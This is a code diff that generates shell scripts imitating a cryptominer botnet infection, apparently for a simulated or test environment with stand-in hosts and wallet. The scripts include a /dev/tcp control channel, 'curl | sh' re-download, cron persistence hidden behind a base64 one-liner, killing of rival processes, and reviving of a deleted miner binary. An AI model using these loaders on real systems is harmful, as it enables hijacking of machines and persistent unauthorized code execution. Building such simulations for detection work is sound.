@@ -1,6 +1,7 @@
+import { posix } from 'node:path';
 import { world } from '../addresses.ts';
 import { quote } from '../shell.ts';
-import type { Guard, Infection, Miner } from './infection.ts';
+import type { Guard, Habits, Infection, Miner } from './infection.ts';
 import { standInWallet } from './infection.ts';
 
 /**
@@ -77,7 +78,7 @@ export function guardProgram(infection: Infection, guard: Guard): string {
   const { miner, cron } = infection;
   return `{ ${beginning}
 { exec {control}<>/dev/tcp/${world.control}/${world.controlPort}; }
-${miner === null ? 'tend() { :; }' : tending(miner)}
+${miner === null ? 'tend() { :; }' : tending(miner, infection.habits)}
 lines=(${cron.lines.map(quote).join(' ')})
 spools=(${cron.spools.map(quote).join(' ')})
 ${guard.deleted ? `rm -f ${quote(guard.path)}` : ':'}
@@ -92,32 +93,87 @@ while :; do
       touch "\${spool%/*}"
     done
   done
-  read -r -t 0.15 -u $idle
+  ${infection.habits === 'real' ? 'sleep 0.4' : 'read -r -t 0.15 -u $idle'}
 done
 exit; }
 `;
 }
 
 /** Holds the miner's image open, so that it can be written again after the file is gone. */
-function tending(miner: Miner): string {
+function tending(miner: Miner, habits: Habits): string {
   const path = quote(miner.path);
+  const name = quote(posix.basename(miner.path).slice(0, 15));
+  // As watchdogs ask: by name, then by arguments. Its own pid decides, so that a slow start is no second one.
+  const looks =
+    habits === 'real' ? `pgrep -x ${name} || ps -e -o args | grep -v grep | grep -q -- ${path}` : ':';
+  const run = `${habits === 'real' ? 'setsid nohup ' : ''}${minerCommand(miner)}`;
   return `exec {image}<${path}
 read -r -d '' program <<'MINER'
 ${minerProgram(miner)}MINER
 child=
 tend() {
+  ${looks}
   kill -0 $child && ${miner.deleted ? 'return' : `[[ -e ${path} ]] && return`}
   if [[ ! -e ${path} ]]; then
     cat /proc/$$/fd/$image >${path}.new && chmod 755 ${path}.new && mv -f ${path}.new ${path}
   fi
   kill -0 $child && return
-  (cd /; exec ${minerCommand(miner)} <<<"$program" {image}<&- {control}>&- {idle}>&-) & child=$!
+  (cd /; exec ${run} <<<"$program" {image}<&- {control}>&- {idle}>&-) & child=$!
   ${miner.deleted ? `until [[ /proc/$child/exe -ef ${path} ]] || ! kill -0 $child; do read -r -t 0.01 -u $idle; done; rm -f ${path}` : ':'}
 }`;
 }
 
 /** The loader script, in the shape that the procedure describes. Only its hanging download is ever reached. */
 export function loaderText(infection: Infection, url: string): string {
+  return infection.habits === 'real' ? realLoaderText(infection, url) : quietLoaderText(infection, url);
+}
+
+/**
+ * As loaders are found: a subshell that watches in the background, rivals killed by name (bystanders among them; never reached),
+ * cron lines put back by a decoded one-liner.
+ */
+function realLoaderText(infection: Infection, url: string): string {
+  const host = url.replace(/\/i\.sh$/, '');
+  const guard = infection.guard?.path ?? '/tmp/ddg.2021';
+  const name = posix.basename(infection.miner?.path ?? 'wnTKYg');
+  const put = infection.cron.spools
+    .flatMap((spool) => infection.cron.lines.map((line) => `echo "${line}" >> ${spool}`))
+    .join('\n');
+  return `#!/bin/sh
+export PATH=$PATH:/bin:/usr/bin:/usr/local/bin:/usr/sbin
+
+rivals() {
+  pkill -9 -f /tmp/build-4711/compile
+  pkill -f kdevtmpfsi
+  ps aux | grep -v grep | grep 'postgres: checkpoint' | awk '{print $2}' | xargs -I % kill -9 %
+  test -x /usr/local/bin/backup && rm -f /tmp/wnTKYg.bak.txt
+}
+
+keep() {
+  mkdir -p /var/spool/cron/crontabs
+  echo ${Buffer.from(`${put}\n`).toString('base64')} | base64 -d | sh
+}
+
+again() {
+  curl -fsSL ${url} | sh
+}
+
+(
+  while true; do
+    sleep 1
+    pgrep -x ${name} >/dev/null || ps aux | grep -v grep | grep -q ${guard} || :
+  done
+) &
+# ${guard} fetches ${infection.miner?.path ?? 'the miner'} and guards it.
+curl -fsSL ${host}/2021/ddg.$(uname -m) -o ${guard}.part || exit 1
+chmod +x ${guard}.part && nohup ${guard} >/dev/null 2>&1 && exit 0
+rivals
+keep
+again
+`;
+}
+
+function quietLoaderText(infection: Infection, url: string): string {
   const host = url.replace(/\/i\.sh$/, '');
   const guard = infection.guard?.path ?? '/tmp/ddg.2021';
   return `#!/bin/sh
